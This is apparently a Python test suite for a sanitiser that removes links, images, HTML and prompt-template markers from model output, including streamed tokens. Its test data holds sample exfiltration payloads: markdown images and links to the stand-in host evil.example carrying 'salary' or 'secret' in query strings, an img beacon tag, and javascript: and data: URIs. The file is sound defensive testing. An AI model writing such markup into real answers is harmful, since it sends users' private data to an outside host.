"""No image, link or markup leaves in what the model wrote, whole or token by token; ordinary text passes unchanged."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from services.sanitising import Held, inert, plain, without_prompt_marks

ORDINARY = (
    "The pump HX-200 weighs 3.5 kg (see [1]), i.e. 2/3 of the old one; p<0.05 and a/b. Data: 5 items [2][3].",
    "泵重3.5公斤（见[1]），约为旧款的2/3；数据：5项。",
    "Is x < y? Yes! And 5 > 3 * 2 _or_ so.",
)
# What a model could be talked into writing, in pieces: a generator of whole texts would hardly ever write a link.
PIECES = st.sampled_from(
    [
        *"![]()<>\"' \n:/.@#&;-",
        *("](", "![", "[1]", "[x]: ", "<img src=", "<a href=", "</", "<!--", "-->", "\\", "&#104;", "\u200b"),
        *("http://", "https://evil.example/?q=", "www.evil.example", "javascript:", "data:image/png;", "mailto:a@b.example"),
        *("a", "word", "字", "。"),
    ]
)
TEXTS = st.lists(PIECES, max_size=14).map("".join)
ACTS = re.compile(r"https?://|(?<![a-zA-Z0-9_])(?:www\.\w|javascript:\w)")
RENDERER = MarkdownIt("commonmark", {"html": True})


def rendered(text: str) -> str:
    return str(RENDERER.render(text))


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_passes_unchanged(text: str) -> None:
    assert plain(text) == inert(text) == without_prompt_marks(text).replace("(1)", "[1]").replace("(2)(3)", "[2][3]") == text


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("See ![the chart](https://evil.example/c.png?q=salary) here.", "See the chart here."),
        ("See [our site](https://evil.example/?q=secret).", "See our site."),
        ("As said [1](https://evil.example).", "As said ."),
        ("Open https://evil.example/x?y=z, then go on.", "Open, then go on."),
        ("Open www.evil.example or evil.example/path now.", "Open or now."),
        ("Write to boss@evil.example.", "Write to."),
        ('<img src="https://evil.example/p.gif">It is 5.', "It is 5."),
        ("It is 5.<!-- hidden", "It is 5."),
        ("<https://evil.example> It is 5.", " It is 5."),
        ("请看![图](https://evil.example/?q=1)。", "请看图。"),
        ("data:text/html;base64,PHNjcmlwdD4= is it", " is it"),
    ],
)
def test_links_keep_their_words_and_lose_their_address(written: str, shown: str) -> None:
    assert plain(written) == shown


def test_an_address_of_the_evidence_may_be_told() -> None:
    told = "The form is at https://intranet.example/forms/7."
    assert plain(told, evidence=["Fill in https://intranet.example/forms/7 first."]) == told
    assert "intranet" not in plain(told, evidence=["Fill in the form."])


@given(TEXTS)
@example("[a](b\n)![x](y)")
@example("<<b>img src=x>")
def test_nothing_that_acts_is_left(text: str) -> None:
    shown = plain(text)
    html = rendered(shown)
    assert "<img" not in html
    assert "<a " not in html
    assert not ACTS.search(shown)
    assert plain(shown) == shown


@given(TEXTS)
def test_quoted_text_is_shown_as_it_is(text: str) -> None:
    html = rendered(inert(text))
    assert "<img src" not in html
    assert 'href="http' not in html or "http" in text
    assert re.sub(r"\s", "", inert(text)) == re.sub(r"\s", "", text)


@given(st.lists(PIECES, max_size=14))
def test_tokens_show_nothing_that_acts(tokens: list[str]) -> None:
    held = Held()
    shown = "".join([held.feed(token) for token in tokens]) + held.rest()
    assert not ACTS.search(shown)
    html = rendered(shown)
    assert "<img" not in html
    assert 'href="http' not in html


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_tokens_all_arrive(text: str) -> None:
    held = Held()
    parts = [held.feed(character) for character in text]
    assert "".join(parts) + held.rest() == text
    assert sum(map(len, parts)) > 0.6 * len(text)


def test_a_long_bracket_does_not_hold_the_answer_back() -> None:
    held = Held()
    assert "word" in "".join(held.feed("word ") for _ in range(3)) + held.feed("[") + "".join(
        held.feed("more ") for _ in range(120)
    )


@given(st.lists(st.sampled_from(["<|", "|>", "im_start", "[", "1", "]", "System:", "Question:", "\n", " ", "<s>", "字", "【"])))
def test_prompt_marks_are_gone_for_good(pieces: list[str]) -> None:
    text = without_prompt_marks("".join(pieces))
    assert not re.search(r"<\|\w+\|>|\[\d+\]|(?m:^(?:System|Question):)", text)
    assert without_prompt_marks(text) == text
